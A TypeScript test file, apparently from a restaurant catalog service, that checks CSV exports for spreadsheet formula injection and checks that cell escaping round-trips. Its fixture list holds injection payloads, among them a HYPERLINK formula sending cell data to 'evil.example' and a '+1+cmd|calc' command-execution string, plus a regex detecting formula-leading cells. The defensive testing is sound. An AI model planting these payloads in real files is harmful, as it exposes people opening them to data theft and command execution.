import fc from 'fast-check';
import { EMPTY_CATALOG } from '#server/catalog/document/catalogLists.ts';
import { applyEntries } from '#server/catalog/import/applyEntries.ts';
import { exportCatalog } from '#server/catalog/import/exportCatalog.ts';
import { escapedCell, unescapedCell } from '#server/catalog/import/formulaCells.ts';
import { readTables } from '#server/catalog/import/readTables.ts';
import { runs } from '#tests/support/runs.ts';
import { aCatalogDocument, aDish, aRestaurant } from '../support/aCatalogDocument.ts';
import { openTestShop } from '../support/openTestShop.ts';

const MARKET = { currency: 'RUB', timezone: '+03:00' };
const FORMULAS = ['=HYPERLINK("https://evil.example?"&A1)', '+1+cmd|calc', '-2+3', '@SUM(A1)', "'=already", '\t=1'];

describe('tables that are exported', () => {
  it('open in a spreadsheet: UTF-8 with a mark, and no cell begins as a formula', async () => {
    const shop = await openTestShop({
      document: aCatalogDocument({
        restaurants: [aRestaurant({ phones: ['+79005550000'], location: [-10.5, -20.5], zones: [] })],
        dishes: FORMULAS.map((name, index) => aDish({ id: `dish-${index}`, name, description: { en: name } })),
      }),
    });
    const files = await exportCatalog(shop.database, 'csv');
    await shop.close();
    const tables = new Map<string, string>();
    for (const [name, content] of files) {
      expect(String(content).startsWith('\uFEFF')).toBe(true);
      expect(String(content)).not.toMatch(/(?:^|[,\n"])(?:[=+@\t]|-(?!\d+(?:\.\d+)?[,\r]))/m);
      tables.set(name.replace('.csv', ''), String(content));
    }
    const source = readTables(tables);
    const { document, faults } = applyEntries({
      current: EMPTY_CATALOG,
      source,
      market: MARKET,
      pictures: new Map(),
      replace: false,
    });
    expect(faults).toEqual([]);
    expect(document.dishes.map(({ name }) => name)).toEqual(FORMULAS);
    expect(document.dishes.map(({ description }) => description)).toEqual(FORMULAS.map((en) => ({ en })));
    expect(document.restaurants[0]).toMatchObject({ phones: ['+79005550000'], location: [-10.5, -20.5] });
  });

  it('keep any text through the escape', () => {
    const cell = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '1', '.', 'a'), maxLength: 6 });
    fc.assert(
      fc.property(cell, (text) => {
        expect(unescapedCell(escapedCell(text))).toBe(text);
      }),
      { numRuns: runs(500) },
    );
  });
});
